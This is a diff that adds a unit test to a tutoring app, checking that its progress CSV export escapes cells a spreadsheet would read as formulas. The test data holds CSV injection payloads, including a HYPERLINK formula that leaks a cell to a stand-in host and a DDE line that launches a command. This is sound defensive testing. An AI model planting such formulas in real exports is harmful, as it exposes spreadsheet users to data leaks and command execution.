@@ -228,3 +228,43 @@ def test_json_never_holds_infinity_or_nan():
     text = json_text({"a": float("inf"), "b": [float("nan"), -float("inf"), 1.5]})
     assert strict_json(text) == {"a": None, "b": [None, None, 1.5]}
     assert "\n" not in json_text({"a": [1, 2]}, indent=None)
+
+
+def test_progress_csv_neutralises_cells_a_spreadsheet_would_take_for_formulas(capsys, folder):
+    import csv
+    import io
+
+    from tutor.progress import Answer, ProgressStore
+
+    answers = [
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd",
+        "-2+3",
+        "\t=1",
+        "\r=1",
+        "-2",
+        "-0.5",
+        "+3",
+        "1/2",
+        "a*b",
+    ]
+    with ProgressStore.open() as store:
+        for index, text in enumerate(answers):
+            store.record_answer(Answer("tiny", 0, index, text, "incorrect"))
+    code, out, _ = run(capsys, "--lessons", str(folder), "progress", "--csv")
+    assert code == 0
+    cells = [row["answer"] for row in csv.DictReader(io.StringIO(out))]
+    assert cells == [
+        "'" + answers[0],
+        "'" + answers[1],
+        "'+1+cmd",
+        "'-2+3",
+        "'\t=1",
+        "'\\x0d=1",  # the command line shows a carriage return escaped as well
+        "-2",
+        "-0.5",
+        "+3",
+        "1/2",
+        "a*b",
+    ]
